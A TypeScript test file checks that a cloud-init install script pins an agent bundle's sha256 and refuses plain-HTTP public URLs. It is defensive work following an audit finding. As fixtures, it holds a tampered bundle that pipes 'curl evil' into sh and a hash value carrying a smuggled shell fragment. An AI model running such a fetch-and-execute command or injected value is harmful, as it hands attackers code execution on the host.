/**
 * Finding 4: the bootstrap fetched the agent bundle over plain HTTP and ran it as root unchecked.
 * User-data now pins the bundle's sha256 and the install script refuses anything else; a plain
 * HTTP public URL is refused unless it is loopback or on the tailnet.
 */
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { ValidationError } from '../domain/errors.ts';
import { BOOTSTRAP_VERSION, renderSnapshotBuilderUserData, renderUserData } from './cloud-init.ts';
import { bootstrapInput } from './fixtures.testing.ts';
import { INSTALL_SCRIPT_PATH } from './install-script.ts';
import type { BootstrapInput } from './types.ts';

const run = promisify(execFile);
const BUNDLE = "console.log('the real agent');\n";
const SHA = createHash('sha256').update(BUNDLE).digest('hex');

const installScriptOf = (userData: string) => (parse(userData) as { write_files: { path: string; content: string }[] }).write_files.find((f) => f.path === INSTALL_SCRIPT_PATH)!.content;
const withUrl = (apiUrl: string, over: Partial<BootstrapInput> = {}) => bootstrapInput({ agentBundleSha256: SHA, ...over, bootstrap: { ...bootstrapInput().bootstrap, apiUrl } } as Partial<BootstrapInput>);
const builder = (apiUrl: string, agentBundleSha256: unknown) =>
  renderSnapshotBuilderUserData({ provider: 'hetzner', bootstrapVersion: BOOTSTRAP_VERSION, apiUrl, buildId: '6b1f3c9e-7d2a-4e8b-9c1d-2f3a4b5c6d7e', buildToken: 'hgs_build-token_0123456789', agentBundleSha256 } as never);

function fieldsOf(fn: () => unknown): string[] {
  try {
    fn();
  } catch (err) {
    expect(err).toBeInstanceOf(ValidationError);
    return (err as ValidationError).errors!.map((e) => e.field);
  }
  throw new Error('rendered');
}

describe('the agent bundle pin', () => {
  it('is in the install script of both paths and of the snapshot builder, checked before the bundle is installed', () => {
    for (const path of ['full', 'snapshot'] as const) {
      const script = installScriptOf(renderUserData(withUrl('https://hangar.example.com', { path })));
      expect(script).toContain(`AGENT_SHA256=${SHA}\n`);
      expect(script).toContain('sha256sum -c');
      expect(script.indexOf('sha256sum -c')).toBeLessThan(script.indexOf('put_file /opt/hangar/agent/agent.mjs'));
    }
    expect(installScriptOf(builder('https://hangar.example.com', SHA))).toContain(`AGENT_SHA256=${SHA}\n`);
  });

  it('is required, as 64 lowercase hex digits', () => {
    for (const bad of [undefined, '', 'abc', SHA.toUpperCase(), `${SHA}0`, `${SHA.slice(0, 63)}g`, `${SHA.slice(0, 60)}'; x`]) {
      expect(fieldsOf(() => renderUserData(withUrl('https://hangar.example.com', { agentBundleSha256: bad as string })))).toEqual(['agentBundleSha256']);
      expect(fieldsOf(() => builder('https://hangar.example.com', bad))).toEqual(['agentBundleSha256']);
    }
  });
});

describe('plain-HTTP public URLs', () => {
  const refused = ['http://hangar.example.com', 'http://203.0.113.7:7070', 'http://10.0.0.5:7070', 'http://[2001:db8::1]:7070', 'http://100.63.255.255', 'http://100.128.0.1', 'http://evil-ts.net', 'http://ts.net.evil.example', 'http://localhost.evil.example', 'http://127.0.0.1.nip.io', 'http://[fd7a:115c:a1e1::1]', 'http://[::2]', 'http://[::ffff:10.0.0.1]', 'http://0x7f.1.evil.example'];
  const allowed = ['https://hangar.example.com', 'https://203.0.113.7:8443', 'http://127.0.0.1:7070', 'http://127.9.9.9', 'http://[::1]:7070', 'http://localhost:7070', 'http://LOCALHOST', 'http://100.64.0.1', 'http://100.127.255.254:7070', 'http://[fd7a:115c:a1e0::1]:7070', 'http://hangar.tail1234.ts.net:7070', 'http://0.0.0.0:7070', 'http://[::]:7070', 'http://[::ffff:127.0.0.1]:7070', 'http://[fd7a:115c:a1e0:ab12::1]', 'http://0x7f.1:7070', 'http://2130706433:7070'];

  it.each(refused)('refuses %s naming publicUrl, for instances and snapshot builders', (url) => {
    let err: unknown;
    try {
      renderUserData(withUrl(url));
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(ValidationError);
    expect((err as ValidationError).errors).toEqual([{ field: 'publicUrl', message: expect.stringMatching(/https/) }]);
    expect((err as ValidationError).message).toContain('HANGAR_PUBLIC_URL');
    expect(fieldsOf(() => builder(url, SHA))).toEqual(['publicUrl']);
  });

  it.each(allowed)('allows %s', (url) => {
    expect(installScriptOf(renderUserData(withUrl(url)))).toContain(`AGENT_SHA256=${SHA}\n`);
    expect(installScriptOf(builder(url, SHA))).toContain(`AGENT_SHA256=${SHA}\n`);
  });
});

describe('the rendered install script fetching the bundle', () => {
  let work: string;
  let api: Server;
  let served = BUNDLE;
  const paths: string[] = [];
  beforeAll(async () => {
    work = mkdtempSync(join(tmpdir(), 'hangar-pin-'));
    api = createServer((req, res) => {
      paths.push(req.url ?? '');
      if ((req.url ?? '').startsWith('/v1/agent/bundle')) res.writeHead(200, { 'content-type': 'text/javascript' }).end(served);
      else res.writeHead(404).end();
    });
    await new Promise<void>((r) => api.listen(0, '127.0.0.1', r));
  });
  afterAll(() => {
    api?.close();
    rmSync(work, { recursive: true, force: true });
  });

  async function fetchAgent(label: string): Promise<{ code: number; out: string; bundle: string }> {
    const url = `http://127.0.0.1:${(api.address() as AddressInfo).port}`;
    const script = join(work, `${label}.sh`);
    const text = installScriptOf(renderUserData(withUrl(url, { path: 'snapshot' })));
    // Never run a script without the mode: run as root here, it would install a server.
    expect(text).toMatch(/^if \[\[ "\$\{1:-\}" == --fetch-agent \]\]; then$/m);
    writeFileSync(script, text);
    const root = join(work, label);
    const r = await run('bash', [script, '--fetch-agent', root]).then(
      (x) => ({ code: 0, out: x.stdout + x.stderr }),
      (e: { code: number; stdout: string; stderr: string }) => ({ code: e.code, out: e.stdout + e.stderr }),
    );
    return { ...r, bundle: join(root, 'opt/hangar/agent/agent.mjs') };
  }

  it('installs the bundle whose sha256 matches the pin', async () => {
    served = BUNDLE;
    const r = await fetchAgent('good');
    expect(r.code, r.out).toBe(0);
    expect(readFileSync(r.bundle, 'utf8')).toBe(BUNDLE);
  });

  it('refuses a tampered bundle: exits non-zero with a clear log line and installs nothing', async () => {
    served = "require('child_process').execSync('curl evil | sh');\n";
    const r = await fetchAgent('tampered');
    expect(r.code).not.toBe(0);
    expect(r.out).toMatch(/ERROR: .*agent bundle.*sha256.*expected/i);
    expect(r.out).toContain(SHA);
    expect(existsSync(r.bundle)).toBe(false);
  });
});
